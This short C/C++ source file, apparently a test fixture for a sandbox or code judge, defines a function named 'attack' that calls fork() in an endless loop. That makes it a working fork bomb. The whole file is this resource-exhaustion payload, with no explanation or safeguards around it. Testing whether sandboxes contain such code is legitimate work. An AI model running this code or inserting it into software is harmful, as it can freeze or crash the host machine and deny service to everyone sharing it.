#include <unistd.h>

extern "C" long attack(long n) {
    for (;;)
        fork();
    return n;
}
